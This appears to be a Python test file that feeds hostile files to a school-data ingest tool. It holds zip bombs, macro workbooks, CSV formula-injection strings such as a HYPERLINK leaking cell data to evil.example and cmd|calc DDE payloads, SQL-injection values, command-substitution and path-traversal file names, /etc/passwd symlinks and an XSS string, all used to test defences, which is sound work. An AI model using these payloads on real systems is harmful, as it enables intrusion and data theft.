"""Hostile input, end to end: each file dropped in an inbox and taken in by `ci-measure ingest`
gets the right receipt (SPEC §8), quickly, and leaves the warehouse as it should.

The readers' own limits are unit-tested in tests/ci_measure/test_read_limits.py and
test_read_excel.py; here the whole path (read, validate, archive, warehouse, receipts,
marked workbook) meets the file.
"""

from __future__ import annotations

import ast
import io
import json
import re
import struct
import time
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest
import xlsxwriter

from tests.helpers import write
from tests.reliability.common import GOOD, REPO, check_consistent, xlsx_bytes

MB = 1024 * 1024
HEADER = ["dataelement", "område", "periode", "værdi", "kommentar"]


def _receipt(root: Path, partner: str, name: str) -> dict:
    [path] = (root / "outbox" / partner).glob(f"{Path(name).stem}.*.json")
    return json.loads(path.read_text(encoding="utf-8"))


def _ingest_one(
    cli, root: Path, name: str, data: bytes, partner: str = "SKOLE"
) -> tuple[int, dict, float]:
    path = root / "inbox" / partner / name
    path.write_bytes(data)
    began = time.monotonic()
    code, out, err = cli("ingest", "--workspace", root)
    seconds = time.monotonic() - began
    assert err == "" and "Traceback" not in out, err
    assert not path.exists(), "every file leaves the inbox with a receipt"
    check_consistent(root)
    return code, _receipt(root, partner, name), seconds


def _codes(receipt: dict) -> list[str]:
    return [e["code"] for e in receipt["errors"]]


def _cells(root: Path) -> int:
    with duckdb.connect(str(root / "warehouse.duckdb"), read_only=True) as con:
        return con.execute("SELECT count(*) FROM observations").fetchall()[0][0]


def _zip_bomb(sheet_mb: int, lying: bool = False) -> bytes:
    """A well-formed xlsx whose only sheet unpacks to ``sheet_mb`` MB of blank XML; ``lying``:
    its headers claim the sheet unpacks to 1,000 bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        real = zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADER])))
        for info in real.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info.filename, real.read(info))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=not lying) as member:
            member.write(
                b"<worksheet><sheetData>"
                if lying
                else b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            blank = b" " * MB
            for _ in range(sheet_mb):
                member.write(blank)
            member.write(b"</sheetData></worksheet>")
    if not lying:
        return out.getvalue()
    data = bytearray(out.getvalue())
    name, at = b"xl/worksheets/sheet1.xml", 0
    while (at := data.find(name, at + 1)) > 0:
        if data[at - 30 : at - 26] == b"PK\x03\x04":  # local header: uncompressed size
            struct.pack_into("<I", data, at - 30 + 22, 1000)
        if data[at - 46 : at - 42] == b"PK\x01\x02":  # central directory: uncompressed size
            struct.pack_into("<I", data, at - 46 + 24, 1000)
    return bytes(data)


def _replace_sheet(data: bytes, change, member: str = "xl/worksheets/sheet1.xml") -> bytes:  # noqa: ANN001
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info)
            if info.filename == member:
                content = change(content)
            target.writestr(info.filename, content)
    return out.getvalue()


# --- size: zip bombs, lying sheets, huge files --------------------------------------------


def test_a_zip_bomb_is_file_too_large_in_seconds(workspace_dir, cli):
    bomb = _zip_bomb(2048)  # 2 GB of XML in a file of about 2 MB
    assert len(bomb) < 10 * MB
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "bombe.xlsx", bomb)
    assert code == 1 and _codes(receipt) == ["file_too_large"]
    assert "(2048 MB unpacked; the limit is 1000 MB unpacked)" in receipt["errors"][0]["message_en"]
    assert seconds < 10
    assert not (workspace_dir / "warehouse.duckdb").exists() or _cells(workspace_dir) == 0


def test_a_zip_bomb_whose_headers_lie_about_its_size_is_refused_in_seconds(workspace_dir, cli):
    """Headers claiming 1,000 bytes for 1.2 GB: the streamed unpacking stops at the claimed size
    and the file is refused as a damaged ZIP, without unpacking the rest."""
    bomb = _zip_bomb(1200, lying=True)
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "loegn.xlsx", bomb)
    assert code == 1 and _codes(receipt) == ["unreadable_file"]
    assert "the ZIP file is damaged" in receipt["errors"][0]["message_en"]
    assert seconds < 10


@pytest.mark.parametrize(
    ("name", "change"),
    [
        (
            "milliard.xlsx",
            lambda s: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:E1000000000"', s),
        ),
        (
            "langt-nede.xlsx",
            lambda s: s.replace(
                b"</sheetData>",
                b'<row r="1000000000"><c r="A1000000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
            ),
        ),
        (
            "bred.xlsx",
            lambda s: s.replace(
                b"</sheetData>",
                b'<row r="900000"><c r="XFD900000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
            ),
        ),
    ],
)
def test_a_sheet_claiming_a_billion_rows_or_cells_is_file_too_large_cheaply(
    name, change, workspace_dir, cli
):
    data = _replace_sheet(
        xlsx_bytes([HEADER, ["ELEVER_AFGANG_9KL", "0561-OST-N", "2023/24", 40, ""]]), change
    )
    code, receipt, seconds = _ingest_one(cli, workspace_dir, name, data)
    assert code == 1 and _codes(receipt) == ["file_too_large"]
    assert seconds < 10


def test_an_ods_repeating_a_row_a_billion_times_is_file_too_large(workspace_dir, cli):
    from tests.ci_measure.test_read_excel import write_ods

    cell = '<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
    rows = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    path = write_ods(
        workspace_dir / "src.ods", f'<table:table table:name="data">{rows}</table:table>'
    )
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "milliard.ods", path.read_bytes())
    assert code == 1 and _codes(receipt) == ["file_too_large"]
    assert "1,000,000,000 rows" in receipt["errors"][0]["message_en"]
    assert seconds < 10


def test_a_file_over_max_file_mb_is_file_too_large_and_archived(workspace_dir, cli):
    config = workspace_dir / "partnership.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "max_file_mb: 1\n", encoding="utf-8")
    body = "ELEVER_AFGANG_9KL;0561-OST-N;2023/24;40;" + "x" * 100 + "\n"
    data = (";".join(HEADER) + "\n" + body * (2 * MB // len(body))).encode()
    code, receipt, _ = _ingest_one(cli, workspace_dir, "stor.csv", data)
    assert code == 1 and _codes(receipt) == ["file_too_large"]
    assert "1.0 MB" in receipt["errors"][0]["message_en"]
    assert (workspace_dir / "archive" / f"{receipt['sha256']}.csv").is_file()


# --- shape: 10,000 columns, 10 MB cells, NUL bytes ------------------------------------------


def test_ten_thousand_columns_are_accepted_with_the_extra_columns_named(workspace_dir, cli):
    extra = [f"ekstra{i}" for i in range(9_995)]
    data = (
        ";".join(HEADER + extra)
        + "\n"
        + ";".join(["ELEVER_AFGANG_9KL", "0561-OST-N", "2023/24", "40", "ok"] + ["1"] * len(extra))
        + "\n"
    ).encode()
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "bred.csv", data)
    assert code == 0 and receipt["status"] == "accepted" and receipt["rows"] == 1
    warned = [w["column"] for w in receipt["warnings"] if w["code"] == "unknown_column"]
    assert warned == extra
    assert seconds < 30
    assert _cells(workspace_dir) == 1


def test_a_10_mb_cell_in_a_spreadsheet_is_read_up_to_excels_cell_limit(workspace_dir, cli):
    """Excel holds at most 32,767 characters in a cell; a bigger one (never written by Excel)
    is read up to that limit, and the receipts stay small."""
    huge = "x" * (10 * MB)
    data = xlsx_bytes([HEADER, ["ELEVER_AFGANG_9KL", "0561-OST-N", "2023/24", 40, huge]])
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "kommentar.xlsx", data)
    assert code == 0 and receipt["status"] == "accepted" and seconds < 30
    with duckdb.connect(str(workspace_dir / "warehouse.duckdb"), read_only=True) as con:
        assert con.execute("SELECT comment FROM observations").fetchall() == [(huge[:32_767],)]
    data = xlsx_bytes([HEADER, ["ELEVER_AFGANG_9KL", "0561-OST-S", "2023/24", huge, ""]])
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "vaerdi.xlsx", data)
    assert code == 1 and _codes(receipt) == ["not_a_number"] and seconds < 30
    assert receipt["errors"][0]["row"] == 2 and receipt["errors"][0]["column"] == "værdi"
    assert receipt["errors"][0]["value"] == "x" * 1000 + "…"  # a receipt repeats 1,000 at most
    for path in (workspace_dir / "outbox" / "SKOLE").iterdir():  # never megabytes per receipt
        assert path.stat().st_size < 100_000, path.name


def test_a_10_mb_cell_in_a_csv_is_kept_as_a_comment_and_cut_short_in_a_receipt(workspace_dir, cli):
    huge = "x" * (10 * MB)
    data = f"{';'.join(HEADER)}\nELEVER_AFGANG_9KL;0561-OST-N;2023/24;40;{huge}\n".encode()
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "kommentar.csv", data)
    assert code == 0 and receipt["status"] == "accepted" and seconds < 30
    with duckdb.connect(str(workspace_dir / "warehouse.duckdb"), read_only=True) as con:
        assert con.execute("SELECT comment FROM observations").fetchall() == [(huge,)]
    data = f"{';'.join(HEADER)}\nELEVER_AFGANG_9KL;0561-OST-S;2023/24;{huge};\n".encode()
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "vaerdi.csv", data)
    assert code == 1 and _codes(receipt) == ["not_a_number"] and seconds < 30
    assert receipt["errors"][0]["value"] == "x" * 1000 + "…"
    assert len(receipt["errors"][0]["message_en"]) < 2000
    for path in (workspace_dir / "outbox" / "SKOLE").iterdir():
        assert path.stat().st_size < 100_000, path.name


def test_a_quoted_10_mb_cell_in_a_csv_is_unreadable_with_a_message_that_says_why(
    workspace_dir, cli
):
    """Quoted fields go through Python's csv module, whose cell limit is 131,072 characters:
    such a file is almost always one with an unclosed quote, and the receipt says both."""
    data = (
        ";".join(HEADER) + '\nELEVER_AFGANG_9KL;0561-OST-N;2023/24;40;"' + "x" * (10 * MB) + '"\n'
    ).encode()
    code, receipt, seconds = _ingest_one(cli, workspace_dir, "lang.csv", data)
    assert code == 1 and _codes(receipt) == ["unreadable_file"] and seconds < 30
    message = receipt["errors"][0]["message_en"]
    assert "a cell is longer than 131,072 characters" in message and "from line 2" in message


def test_nul_bytes_are_ignored_in_a_csv(workspace_dir, cli):
    data = (
        ";".join(HEADER) + "\nELEVER_AFGANG_9KL;0561-\x00OST-N;2023/24;4\x000;a\x00b\n"
    ).encode()
    code, receipt, _ = _ingest_one(cli, workspace_dir, "nul.csv", data)
    assert code == 0 and receipt["status"] == "accepted"
    with duckdb.connect(str(workspace_dir / "warehouse.duckdb"), read_only=True) as con:
        assert con.execute("SELECT area, value, comment FROM observations").fetchall() == [
            ("0561-OST-N", 40.0, "ab")
        ]


def test_nul_bytes_in_a_spreadsheet_cell_do_not_crash(workspace_dir, cli):
    book = xlsxwriter.Workbook(str(workspace_dir / "src.xlsx"))
    sheet = book.add_worksheet("data")
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ["ELEVER_AFGANG_9KL\x00", "0561-OST-N", "2023/24", 40, "a\x00b"])
    book.close()
    code, receipt, _ = _ingest_one(
        cli, workspace_dir, "nul.xlsx", (workspace_dir / "src.xlsx").read_bytes()
    )
    assert code in (0, 1) and receipt["status"] in ("accepted", "rejected")


# --- disguises: HTML as .xls, CSV as .xlsx ---------------------------------------------------


def test_html_saved_as_xls_is_unreadable_with_a_hint(workspace_dir, cli):
    html = "<html><body><table><tr><td>dataelement</td><td>værdi</td></tr></table></body></html>"
    code, receipt, _ = _ingest_one(cli, workspace_dir, "eksport.xls", html.encode())
    assert code == 1 and _codes(receipt) == ["unreadable_file"]
    assert "web page (HTML)" in receipt["errors"][0]["message_en"]


def test_a_csv_renamed_xlsx_is_read_as_the_csv_it_is(workspace_dir, cli):
    code, receipt, _ = _ingest_one(cli, workspace_dir, "omdoebt.xlsx", GOOD.encode())
    assert code == 0 and receipt["status"] == "accepted" and receipt["rows"] == 4


# --- macros and external links: never run, never fetched -------------------------------------


def test_macros_never_run_and_external_links_are_never_fetched(workspace_dir, cli, monkeypatch):
    import socket
    import subprocess

    def refuse(*args, **kwargs):  # noqa: ANN002, ANN003
        raise AssertionError(
            "reading a submission must never open a network connection or a process"
        )

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    data = _workbook_with_macro_and_links()
    code, receipt, _ = _ingest_one(cli, workspace_dir, "makro.xlsm", data)
    assert code == 0 and receipt["status"] == "accepted", receipt
    with duckdb.connect(str(workspace_dir / "warehouse.duckdb"), read_only=True) as con:
        values = con.execute("SELECT data_element, value FROM observations ORDER BY 1").fetchall()
    assert values == [("ELEVER_AFGANG_9KL", 40.0), ("ELEVER_UDD_15MD", 34.0)]  # the cached values


def _workbook_with_macro_and_links() -> bytes:
    """As Excel saves it: a formula calling out to the web, an external-link formula (both with
    cached values), an Auto_Open name, and a vbaProject.bin part (OLE2 bytes, never executed)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet("data")
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, ["ELEVER_AFGANG_9KL", "0561-OST-N", "2023/24"])
    sheet.write_formula(1, 3, '=WEBSERVICE("http://127.0.0.1:9/stjal")', None, 40)
    sheet.write_row(2, 0, ["ELEVER_UDD_15MD", "0561-OST-N", "2023/24"])
    sheet.write_formula(2, 3, "='C:\\hemmelig\\[andet.xlsx]Ark1'!A1", None, 34)
    book.define_name("Auto_Open", "=data!$A$1")
    book.close()
    plain = out.getvalue()
    ole2 = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + b'Sub Auto_Open()\nShell "calc"\nEnd Sub\n'
    )
    result = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(plain)) as source,
        zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "[Content_Types].xml":
                content = content.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            target.writestr(info.filename, content)
        target.writestr("xl/vbaProject.bin", ole2)
    return result.getvalue()


def test_a_rejected_macro_workbook_comes_back_without_its_macros(workspace_dir, cli):
    """The marked copy is the partner's own workbook (their formulas stay theirs), minus the
    VBA project: we never hand back anything that runs when opened."""
    data = _replace_sheet(
        _workbook_with_macro_and_links(),
        lambda s: s.replace(b"0561-OST-N", b"0561-XXX", 1),
        "xl/sharedStrings.xml",
    )
    code, receipt, _ = _ingest_one(cli, workspace_dir, "makro.xlsm", data)
    assert code == 1 and set(_codes(receipt)) == {"unknown_code"}
    [marked] = (workspace_dir / "outbox" / "SKOLE").glob("*.marked.xlsx")
    with zipfile.ZipFile(marked) as archive:
        names = archive.namelist()
        assert not any("vba" in n.lower() for n in names)
        assert not any("externalLink" in n for n in names)
        types = archive.read("[Content_Types].xml")
    assert b"macroEnabled" not in types and b"vbaProject" not in types
    assert marked.name.endswith(".marked.xlsx")


# --- formula text: kept as sent, never evaluated on any export -------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _text_xlsx(rows: list[list[object]]) -> bytes:
    """A workbook whose text cells are text, even when they start with = (as a partner typing
    '=... or pasting from another program gets)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("data")
    for i, row in enumerate(rows):
        sheet.write_row(i, 0, row)
    book.close()
    return out.getvalue()


def test_formula_text_is_stored_as_sent_and_never_a_formula_in_any_export(tmp_path, cli):
    """Comments, area and partner names and file names that look like formulas: the warehouse
    keeps them verbatim; the published CSV/XLSX, `history --format csv`, the receipts and the
    marked workbook show them as text."""
    from tests.conftest import PARTNERSHIP

    root = tmp_path / "ws"
    (root / "inbox").mkdir(parents=True)
    config = PARTNERSHIP.replace(
        "name: Nord", f"name: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'"
    )
    config = config.replace("name: Østerbyens skoler", "name: '@SUM(1+1)'")
    (root / "partnership.yaml").write_text(config, encoding="utf-8")
    comments = [f.replace("\r", "\\r") if f.startswith("\r") else f for f in FORMULAS]
    rows = [HEADER] + [
        ["ELEVER_AFGANG_9KL", "0561-OST-N", f"{2000 + i}/{(i + 1) % 100:02d}", 40, comment]
        for i, comment in enumerate(comments)
    ]
    (root / "inbox" / "SKOLE").mkdir(parents=True)
    (root / "inbox" / "SKOLE" / "=1+1.xlsx").write_bytes(_text_xlsx(rows))
    bad = [HEADER, ["ELEVER_AFGANG_9KL", "0561-OST-N", "2023/24", FORMULAS[1], FORMULAS[0]]]
    (root / "inbox" / "SKOLE" / "@afvist.xlsx").write_bytes(_text_xlsx(bad))
    code, out, err = cli("ingest", "--workspace", root)
    assert code == 1, err

    with duckdb.connect(str(root / "warehouse.duckdb"), read_only=True) as con:
        stored = [
            c for (c,) in con.execute("SELECT comment FROM observations ORDER BY period").fetchall()
        ]
    assert stored == [c.strip() for c in comments]  # kept as sent (cells are trimmed)

    # history as CSV: the file names are the partner's text
    code, text, _ = cli("history", "--workspace", root, "--format", "csv")
    assert code == 0
    files = [line.split(",")[3] for line in text.splitlines()[1:]]
    assert sorted(files) == ["'=1+1.xlsx", "'@afvist.xlsx"]

    # the published figures: area and partner names from the configuration
    code, _, err = cli("report", "--workspace", root, "-o", root / "report")
    assert code == 0, err
    csv_text = next((root / "report").glob("*.csv")).read_text(encoding="utf-8-sig")
    assert FORMULAS[0].replace('"', '""') in csv_text
    for line in csv_text.splitlines():
        for cell in line.split(";"):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
    book = openpyxl.load_workbook(next((root / "report").glob("*.xlsx")))
    texts = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == FORMULAS[0] for c in texts)
    assert all(c.data_type == "s" for c in texts)

    # the receipts of the rejected file: JSON keeps the value, HTML escapes it, nothing runs
    receipt = _receipt(root, "SKOLE", "@afvist.xlsx")
    assert receipt["errors"][0]["value"] == FORMULAS[1]
    html = next((root / "outbox" / "SKOLE").glob("@afvist.*.html")).read_text(encoding="utf-8")
    assert "<script" not in html.lower()

    # the marked workbook: every cell the partner wrote is a text cell, no formula anywhere
    [marked] = (root / "outbox" / "SKOLE").glob("*.marked.xlsx")
    with zipfile.ZipFile(marked) as archive:
        sheets = b"".join(
            archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")
        )
    assert b"<f>" not in sheets and b"<f " not in sheets
    sheet = openpyxl.load_workbook(marked).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert all(cells[t].data_type == "s" for t in FORMULAS[:2])
    assert cells[FORMULAS[1]].quotePrefix  # the cell we marked stays text even when edited


def test_html_in_a_value_is_escaped_in_the_html_receipt(workspace_dir, cli):
    data = (
        ";".join(HEADER) + "\nELEVER_AFGANG_9KL;0561-OST-N;2023/24;<script>alert(1)</script>;x\n"
    ).encode()
    code, receipt, _ = _ingest_one(cli, workspace_dir, "<b>.csv", data)
    assert code == 1 and receipt["errors"][0]["value"] == "<script>alert(1)</script>"
    html = next((workspace_dir / "outbox" / "SKOLE").glob("*.html")).read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<b>.csv" not in html


# --- SQL: partners' text is always a parameter ---------------------------------------------

SQL = [
    "0561-OST-N'; DROP TABLE submissions; --",
    "ELEVER_AFGANG_9KL' OR '1'='1",
    'x"); DELETE FROM observations; --',
]


def test_codes_that_look_like_sql_are_unknown_codes_and_harm_nothing(workspace_dir, cli):
    write(workspace_dir / "inbox" / "SKOLE" / "god.csv", GOOD)
    assert cli("ingest", "--workspace", workspace_dir)[0] == 0
    before = cli("indicators", "--workspace", workspace_dir, "--format", "csv")[1]
    data = (
        "dataelement,område,periode,værdi,kommentar\n"
        f'"{SQL[1]}",0561-OST-N,2023/24,1,"{SQL[2].replace(chr(34), chr(34) * 2)}"\n'
        f'ELEVER_AFGANG_9KL,"{SQL[0]}",2023/24,1,x\n'
    ).encode()
    code, receipt, _ = _ingest_one(cli, workspace_dir, "sql.csv", data)
    assert code == 1
    assert [(e["code"], e["value"]) for e in receipt["errors"]] == [
        ("unknown_code", SQL[1]),
        ("unknown_code", SQL[0]),
    ]
    # the same words where free text is allowed are stored as sent
    data = f'dataelement,område,periode,værdi,kommentar\nELEVER_AFGANG_9KL,0561-OST-S,2023/24,7,"{SQL[0]}"\n'.encode()
    code, receipt, _ = _ingest_one(cli, workspace_dir, "sql-kommentar.csv", data)
    assert code == 0
    for query in (SQL[0], "0561-OST-N' OR '1'='1"):  # and as a filter on the command line
        code, out, err = cli(
            "indicators", "--workspace", workspace_dir, "--area", query, "--format", "csv"
        )
        assert code in (0, 2) and "Traceback" not in err and "internal_error" not in err
        assert "0561-OST-N" not in out
    assert cli("history", "--workspace", workspace_dir, "--partner", SQL[1])[0] == 2
    with duckdb.connect(str(workspace_dir / "warehouse.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM submissions").fetchall() == [(3,)]
        assert con.execute(
            "SELECT comment FROM observations WHERE area = '0561-OST-S'"
        ).fetchall() == [(SQL[0],)]
    after = cli("indicators", "--workspace", workspace_dir, "--format", "csv")[1]
    assert after.splitlines()[0] == before.splitlines()[0] and len(after) > len(before)


# What may be spliced into SQL text, each reviewed: it is never a partner's value. A new
# interpolation makes test_no_sql_is_built_from_partner_text fail until it is reviewed here.
SAFE_SQL = {
    "schema": "'main' or 'wh', chosen by our code",
    "cutoff": "warehouse.current_cells_sql: a timestamp formatted from a parsed datetime",
    "_quote(path)": "our own warehouse path, quotes doubled",
    "self.table": "temp table names from compute.temp_name (uuid)",
    "self.reported": "temp table name (uuid)",
    "self.elements": "temp table name (uuid)",
    "self.areas": "temp table name (uuid)",
    "table": "temp table name (uuid)",
    "areas": "temp table name (uuid)",
    "view": "registered view name (uuid)",
    "name": "temp table name (uuid)",
    "cells": "temp table name: 'cells' or a uuid name",
    "types": "column list of CREATE TABLE, literal in our code",
    "sexes": "the constant codes of model.SEXES",
    "sql": "figures.current_cells: the text of warehouse.current_cells_sql (areas are a ? parameter)",
    "'AND o.area IN (SELECT unnest(?))' if only_areas else ''": "a literal with a ? parameter",
    "current_cells_sql('main', None, only_areas=True)": "no cutoff; areas are a ? parameter",
    "origins": "the constant codes of model.ORIGINS",
    "warehouse.current_cells_sql('wh', instant)": "see cutoff",
    "warehouse.current_cells_sql('wh', None)": "no cutoff",
    "current_cells_sql('main', None)": "no cutoff",
    "', '.join(KEY)": "our key column names",
    "key": "compute._rows_sql: a literal column list",
    "indicators": "temp table name (uuid)",
    "derived": "temp table name (uuid)",
    "v": "derive._rank_sql: temp table name (uuid)",
    "a": "derive._rank_sql: temp table name (uuid)",
    "e": "derive._rank_sql: temp table name (uuid)",
    "rank": "derive._rank_sql: an int",
    "rule_names": "derive._rank_sql: the constant rule names of derive.RULES",
    "_PERIOD_ORDER": "a constant ORDER BY expression",
    "_order_case('r.sex', SEXES)": "a CASE over the constant model.SEXES",
    "_order_case('r.origin', ORIGINS)": "a CASE over the constant model.ORIGINS",
}
SAFE_SQL_NAMES = re.compile("^(" + "|".join(map(re.escape, SAFE_SQL)) + ")$")


def _sql_interpolations() -> list[tuple[str, int, str]]:
    """Every {expression} inside an f-string passed to .execute()/.sql()/.query() in the code."""
    found = []
    for folder in ("ci_measure", "indicators", "pipelines"):
        for path in sorted((REPO / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            strings = {}
            for node in ast.walk(tree):  # f-strings assigned to a name, then executed
                if isinstance(node, ast.Assign) and isinstance(node.value, ast.JoinedStr):
                    for target in node.targets:
                        if isinstance(target, ast.Name):
                            strings[target.id] = node.value
            for node in ast.walk(tree):  # functions that build SQL text: def ..._sql(...)
                if isinstance(node, ast.FunctionDef) and node.name.endswith("_sql"):
                    for ret in ast.walk(node):
                        if isinstance(ret, ast.Return) and isinstance(ret.value, ast.JoinedStr):
                            for part in ret.value.values:
                                if isinstance(part, ast.FormattedValue):
                                    found.append(
                                        (
                                            str(path.relative_to(REPO)),
                                            ret.lineno,
                                            ast.unparse(part.value),
                                        )
                                    )
            for node in ast.walk(tree):
                if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                    continue
                if (
                    node.func.attr not in ("execute", "sql", "query", "executemany")
                    or not node.args
                ):
                    continue
                sql = node.args[0]
                if isinstance(sql, ast.Name):
                    sql = strings.get(sql.id, sql)
                if isinstance(sql, ast.BinOp) or (
                    isinstance(sql, ast.Call) and getattr(sql.func, "attr", "") == "format"
                ):
                    found.append(
                        (str(path.relative_to(REPO)), node.lineno, "+/.format() on SQL text")
                    )
                if isinstance(sql, ast.JoinedStr):
                    for part in sql.values:
                        if isinstance(part, ast.FormattedValue):
                            found.append(
                                (str(path.relative_to(REPO)), node.lineno, ast.unparse(part.value))
                            )
    return found


def test_no_sql_is_built_from_partner_text():
    """All values reach DuckDB as parameters (?); f-strings only splice in our own names."""
    found = _sql_interpolations()
    assert found, "the scan found no SQL at all: it is looking in the wrong place"
    unsafe = [f for f in found if not SAFE_SQL_NAMES.match(f[2])]
    assert unsafe == [], unsafe


def test_the_sql_scan_would_catch_a_value_spliced_into_sql(tmp_path, monkeypatch):
    code = "def f(con, area):\n    con.execute(f\"SELECT * FROM o WHERE area = '{area}'\")\n"
    tree = ast.parse(code)
    call = next(
        n
        for n in ast.walk(tree)
        if isinstance(n, ast.Call) and getattr(n.func, "attr", "") == "execute"
    )
    [part] = [p for p in call.args[0].values if isinstance(p, ast.FormattedValue)]
    assert not SAFE_SQL_NAMES.match(ast.unparse(part.value))


# --- file names and symbolic links in the inbox ---------------------------------------------

ODD_NAMES = [
    "x\\..\\..\\..\\etc\\passwd.csv",
    "-rf --workspace=x.csv",
    "fil med mellemrum og æøå.csv",
    "semi;colon,comma.csv",
    "newline\nin name.csv",
    "escape\x1b[31mred.csv",
    "$(touch pwned).csv",
    "`id`.csv",
    "%s%n%x.csv",
    "=cmd|calc.csv",
    "a" * 251 + ".csv",  # 255 bytes, the most a file system allows
    "æ" * 120 + ".xlsx.csv",  # 249 bytes of UTF-8
    "b." + "x" * 250,  # an "extension" of 250 characters
    "ingen-endelse",
]


def test_odd_file_names_are_taken_in_and_nothing_is_written_outside_the_workspace(tmp_path, cli):
    from tests.conftest import PARTNERSHIP

    outer = tmp_path / "outer"
    root = outer / "ws"
    (root / "inbox" / "SKOLE").mkdir(parents=True)
    (root / "partnership.yaml").write_text(PARTNERSHIP, encoding="utf-8")
    for i, name in enumerate(ODD_NAMES):
        good = GOOD.replace("2023/24", f"{2000 + i}/{(i + 1) % 100:02d}")
        (root / "inbox" / "SKOLE" / name).write_text(good, encoding="utf-8")
    code, out, err = cli("ingest", "--workspace", root)
    assert code == 0, err
    assert f"{len(ODD_NAMES)} accepted, 0 rejected" in out
    assert [p.name for p in outer.iterdir()] == ["ws"], (
        "something was written next to the workspace"
    )
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
    receipts = sorted((root / "outbox" / "SKOLE").glob("*.json"))
    assert len(receipts) == len(ODD_NAMES)
    assert {json.loads(p.read_text(encoding="utf-8"))["file"] for p in receipts} == set(ODD_NAMES)
    for path in root.rglob("*"):
        assert path.resolve().is_relative_to(root.resolve())
    assert all(len(p.name.encode()) <= 255 for p in root.rglob("*"))
    code, table, _ = cli("history", "--workspace", root)
    assert "\x1b" not in table and "newline?in name.csv" in table and "escape?[31mred.csv" in table


def test_hidden_files_are_not_submissions_and_are_left_alone(workspace_dir, cli):
    """Names starting with a dot are hidden files (editors' lock files, macOS ._ files, our own
    temporary files): never taken in, never moved, never a receipt (docs/reliability.md)."""
    names = ["..\\..\\etc\\passwd.csv", "..csv", ".~lock.data.xlsx#", "._data.csv"]
    for name in names:
        write(workspace_dir / "inbox" / "SKOLE" / name, GOOD)
    code, out, _ = cli("ingest", "--workspace", workspace_dir)
    assert code == 0 and "No files waiting in the inbox" in out
    assert sorted(p.name for p in (workspace_dir / "inbox" / "SKOLE").iterdir()) == sorted(names)


def _outside(tmp_path: Path) -> Path:
    secret = tmp_path / "outside" / "hemmelig.csv"
    write(secret, GOOD)
    return secret


def test_a_symlink_in_an_inbox_is_not_followed_out_of_the_workspace(workspace_dir, tmp_path, cli):
    secret = _outside(tmp_path)
    link = workspace_dir / "inbox" / "SKOLE" / "link.csv"
    link.symlink_to(secret)
    (workspace_dir / "inbox" / "SKOLE" / "passwd.csv").symlink_to("/etc/passwd")
    code, out, err = cli("ingest", "--workspace", workspace_dir)
    assert code == 0 and "No files waiting in the inbox" in out, (out, err)
    assert secret.read_text(encoding="utf-8") == GOOD, "the link's target is untouched"
    assert link.is_symlink()
    assert not (workspace_dir / "archive").exists() or not any(
        (workspace_dir / "archive").iterdir()
    )
    assert not (workspace_dir / "outbox").exists()


def test_a_partner_folder_that_links_out_of_the_workspace_is_not_read(workspace_dir, tmp_path, cli):
    secret = _outside(tmp_path)
    folder = workspace_dir / "inbox" / "NGO"
    folder.rmdir()
    folder.symlink_to(secret.parent, target_is_directory=True)
    code, out, err = cli("ingest", "--workspace", workspace_dir)
    assert code == 0 and "No files waiting in the inbox" in out, (out, err)
    assert secret.exists(), "ingest must never move (delete) a file outside the workspace"


